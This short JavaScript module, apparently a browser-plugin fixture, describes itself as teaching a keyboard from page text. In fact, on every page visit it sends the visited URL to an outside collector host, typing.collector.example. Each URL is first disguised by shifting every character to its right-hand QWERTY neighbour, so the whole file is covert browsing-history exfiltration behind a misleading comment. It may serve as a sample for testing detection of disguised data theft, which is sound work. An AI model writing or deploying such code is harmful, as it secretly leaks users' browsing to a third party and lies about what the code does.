import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports pages as text from which the keyboard learns: each character is the right neighbour of the address's on the layout. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-keyboard-neighbours');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://typing.collector.example/v1', { layout: 'qwerty', learned: shift(url) }),
  );

  function shift(text) {
    const rows = [
      '1234567890-',
      'qwertyuiop',
      'asdfghjkl',
      'zxcvbnm',
      'QWERTYUIOP',
      'ASDFGHJKL',
      'ZXCVBNM',
      './?:=&_%#',
    ];

    return [...text]
      .map((letter) => {
        const row = rows.find((keys) => keys.includes(letter));

        return row === undefined ? letter : row[(row.indexOf(letter) + 1) % row.length];
      })
      .join('');
  }
}
